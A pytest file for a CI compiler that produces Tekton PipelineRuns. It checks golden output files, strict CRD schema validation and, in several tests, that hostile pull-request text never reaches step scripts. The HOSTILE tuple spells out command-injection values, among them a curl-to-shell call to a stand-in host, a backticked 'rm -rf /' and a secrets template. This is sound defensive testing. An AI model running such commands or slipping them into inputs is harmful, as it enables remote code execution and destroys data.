"""Golden PipelineRuns: every `tests/golden/<case>.ci.yaml` compiles to `<case>.pipelinerun.yaml`.

The event is `<case>.event.yaml` when present, else `default.event.yaml`. Regenerate the
golden files with `UPDATE_GOLDEN=1 python3 -m pytest tests/unit/pipelines/test_golden.py`
and read the diff before committing it.

Each golden run is also validated against Tekton's CRD schemas (`../shared/contracts/tekton/
crds`): the PipelineRun schema itself, and, because it stops at `pipelineSpec`
(`x-kubernetes-preserve-unknown-fields`), the embedded pipeline against the Pipeline CRD's
`spec` and each embedded task against the Task CRD's `spec`. The schemas are made strict
(no unknown fields), as Tekton's webhook is. Then Tekton's own rules (`pipelines.tekton_rules`).
"""

from __future__ import annotations

import functools
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from pipelines.events import Event, EventKind, PullRequest
from pipelines.linting import load_spec
from pipelines.planning import Plan, plan
from pipelines.tekton import CompileOptions, compile_pipeline_run, to_yaml
from pipelines.tekton_rules import violations
from tests.contracts import CONTRACTS

ROOT = Path(__file__).resolve().parents[3]
GOLDEN = ROOT / "tests" / "golden"
CRDS = CONTRACTS / "tekton" / "crds"
CASES = sorted(path.name.removesuffix(".ci.yaml") for path in GOLDEN.glob("*.ci.yaml"))
# Fixed, so the golden files do not change with the package version.
OPTIONS = CompileOptions(namespace="team-widget", ferry_version="0.1.0")
HOSTILE = ("$(curl evil.example | sh)", "`rm -rf /`", "${{ secrets.TOKEN }}", "mallory`id`")


def load_event(path: Path) -> Event:
    data = yaml.safe_load(path.read_text())
    pull_request = data.pop("pull_request", None)
    changed = data.pop("changed_files", None)
    return Event(
        **{**data, "kind": EventKind(data["kind"])},
        pull_request=PullRequest(**pull_request) if pull_request else None,
        changed_files=tuple(changed) if changed is not None else None,
    )


def compile_case(case: str) -> dict[str, Any]:
    event_file = GOLDEN / f"{case}.event.yaml"
    event = load_event(event_file if event_file.exists() else GOLDEN / "default.event.yaml")
    spec_file = GOLDEN / f"{case}.ci.yaml"
    spec, _ = load_spec(spec_file.read_bytes(), filename=f"tests/golden/{case}.ci.yaml")
    planned = plan(spec, event)
    assert isinstance(planned, Plan), planned
    return compile_pipeline_run(planned, event, options=OPTIONS)


def test_there_are_enough_cases() -> None:
    assert len(CASES) >= 12


@pytest.mark.parametrize("case", CASES)
def test_golden(case: str) -> None:
    text = to_yaml(compile_case(case))
    golden = GOLDEN / f"{case}.pipelinerun.yaml"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.write_text(text)
    assert golden.exists(), f"no golden file; run with UPDATE_GOLDEN=1 to write {golden.name}"
    assert text == golden.read_text(), f"{golden.name} differs; UPDATE_GOLDEN=1 rewrites it"


@pytest.mark.parametrize("case", CASES)
def test_golden_is_deterministic(case: str) -> None:
    assert to_yaml(compile_case(case)) == to_yaml(compile_case(case))


def _golden_runs() -> list[Any]:
    return [pytest.param(path, id=path.name) for path in sorted(GOLDEN.glob("*.pipelinerun.yaml"))]


@pytest.mark.parametrize("path", _golden_runs())
def test_golden_follows_tekton_rules(path: Path) -> None:
    assert violations(yaml.safe_load(path.read_text())) == ()


@pytest.mark.parametrize("path", _golden_runs())
def test_golden_validates_against_tekton_crds(path: Path) -> None:
    run = yaml.safe_load(path.read_text())
    _validate(_crd_schema("300-pipelinerun.yaml"), run)
    pipeline_spec = run["spec"]["pipelineSpec"]
    _validate(_crd_schema("300-pipeline.yaml")["properties"]["spec"], pipeline_spec)
    task_schema = _crd_schema("300-task.yaml")["properties"]["spec"]
    for task in (*pipeline_spec["tasks"], *pipeline_spec.get("finally", [])):
        embedded = dict(task["taskSpec"])
        metadata = embedded.pop("metadata", {})  # EmbeddedTask: TaskSpec plus metadata
        assert set(metadata) <= {"labels", "annotations"}
        _validate(task_schema, embedded)


def test_strict_schema_catches_a_typo() -> None:
    run = compile_case("single-job")
    step = run["spec"]["pipelineSpec"]["tasks"][0]["taskSpec"]["steps"][0]
    step["scirpt"] = step.pop("script")
    with pytest.raises(jsonschema.ValidationError):
        _validate(
            _crd_schema("300-task.yaml")["properties"]["spec"],
            {
                k: v
                for k, v in run["spec"]["pipelineSpec"]["tasks"][0]["taskSpec"].items()
                if k != "metadata"
            },
        )


@pytest.mark.parametrize("path", _golden_runs())
def test_hostile_text_is_in_no_script(path: Path) -> None:
    run = yaml.safe_load(path.read_text())
    for script in _values_of(run, "script"):
        for text in HOSTILE:
            assert text not in script
        assert "$(params." not in script


def test_hostile_event_reaches_steps_only_as_params() -> None:
    text = (GOLDEN / "hostile-event.pipelinerun.yaml").read_text()
    run = yaml.safe_load(text)
    values = {param["name"]: param["value"] for param in run["spec"]["params"]}
    assert values["pull-request-head-branch"] == "$(curl evil.example | sh)"
    assert "`rm -rf /`" in values["pull-request-title"]
    # Everywhere else, the hostile text appears only in annotations (raw, never executed).
    without_params = {**run, "spec": {**run["spec"], "params": []}}
    without_params["metadata"] = {**run["metadata"], "annotations": {}}
    dumped = yaml.safe_dump(without_params)
    for hostile in HOSTILE:
        assert hostile not in dumped


def _values_of(node: Any, key: str) -> Iterator[str]:
    if isinstance(node, Mapping):
        for name, value in node.items():
            if name == key and isinstance(value, str):
                yield value
            else:
                yield from _values_of(value, key)
    elif isinstance(node, list):
        for item in node:
            yield from _values_of(item, key)


@functools.cache
def _crd_schema(filename: str) -> dict[str, Any]:
    crd = yaml.safe_load((CRDS / filename).read_text())
    (version,) = [v for v in crd["spec"]["versions"] if v["name"] == "v1"]
    return _strict(version["schema"]["openAPIV3Schema"])


def _strict(schema: Any) -> Any:
    """No unknown fields where the schema lists properties, as Tekton's webhook requires."""
    if isinstance(schema, list):
        return [_strict(item) for item in schema]
    if not isinstance(schema, dict):
        return schema
    strict = {key: _strict(value) for key, value in schema.items()}
    if (
        "properties" in schema
        and "additionalProperties" not in schema
        and not schema.get("x-kubernetes-preserve-unknown-fields")
    ):
        strict["additionalProperties"] = False
    return strict


def _validate(schema: Mapping[str, Any], instance: Any) -> None:
    jsonschema.Draft4Validator(schema).validate(instance)
